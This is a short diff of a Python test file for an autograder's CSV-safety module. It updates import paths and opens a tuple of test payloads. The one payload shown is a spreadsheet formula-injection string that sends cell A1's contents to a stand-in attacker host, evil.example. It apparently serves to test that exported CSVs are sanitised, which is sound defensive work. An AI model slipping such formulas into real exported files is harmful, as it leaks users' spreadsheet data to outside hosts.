@@ -13,9 +13,10 @@ from pathlib import Path
 from hypothesis import given
 from hypothesis import strategies as st
 
-from autograder import csvsafe, report
+from autograder import csvsafe
 from autograder.course import Course
-from autograder.results import CellResult, SubmissionResult, write_csvs
+from autograder.grading.results import CellResult, SubmissionResult, write_csvs
+from autograder.stages import report
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
